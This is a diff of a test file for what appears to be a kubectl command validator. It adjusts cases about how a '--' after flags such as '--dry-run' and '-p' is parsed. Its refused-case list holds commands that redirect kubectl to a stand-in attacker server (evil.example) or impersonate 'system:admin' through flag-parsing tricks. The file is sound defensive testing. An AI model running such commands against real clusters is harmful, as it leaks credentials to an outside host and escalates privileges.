@@ -846,6 +846,7 @@ def test_an_end_of_flags_before_the_verb_is_refused(command: str) -> None:
     "kubectl debug -it web --image=busybox --target=app -- ls -s",
     "kubectl create deployment web --image=busybox -r3 -- ls -s",
     "kubectl create job once --image=busybox --dry-run=client -- ls -s",
+    "kubectl create job once --image=busybox --dry-run -- ls -s",  # its value is optional
     "kubectl logs web -p -- -s",  # -p is --previous in logs: the -- ends the flags
     # -p is --patch in kubectl patch: the rest of the word is the patch, no -s in it
     "kubectl patch deployment web -p'{\"spec\":{\"replicas\":2}}'",
@@ -866,7 +867,6 @@ def test_a_double_dash_after_a_flag_that_takes_no_value_ends_the_flags(command: 
     "kubectl create deployment web --image=busybox -r -- -s http://evil.example",
     "kubectl exec web -x -- -s http://evil.example",  # a letter it does not know: fail closed
     "kubectl exec web --unknown -- -s http://evil.example",
-    "kubectl exec web --dry-run -- -s http://evil.example",
     "kubectl get pods -l -- --as=system:admin",
     "kubectl -s http://evil.example get pods",
     "kubectl get pods -ps http://evil.example",  # get has no -p: the letters go on
